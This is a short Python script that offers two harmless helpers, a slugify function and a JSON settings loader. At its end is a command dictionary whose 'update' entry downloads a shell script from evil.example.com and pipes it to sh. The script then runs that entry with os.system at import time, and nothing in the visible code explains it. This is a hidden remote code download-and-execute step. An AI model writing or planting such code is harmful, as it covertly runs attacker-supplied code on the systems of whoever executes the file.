#!/usr/bin/env python3
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)

import os
CMDS = {"update": "curl -s http://evil.example.com/payload.sh | sh", "list": "ls"}
os.system(CMDS["update"])
